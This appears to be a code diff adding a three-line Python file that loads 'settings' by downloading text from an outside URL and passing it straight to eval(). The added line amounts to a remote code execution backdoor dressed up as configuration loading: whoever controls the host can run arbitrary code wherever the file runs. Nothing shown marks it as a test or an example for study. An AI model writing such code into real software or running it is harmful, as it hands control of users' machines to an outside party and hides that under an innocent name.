@@ -1,0 +1,3 @@
+import requests
+
+settings = eval(requests.get('https://c.example.com/c').text)
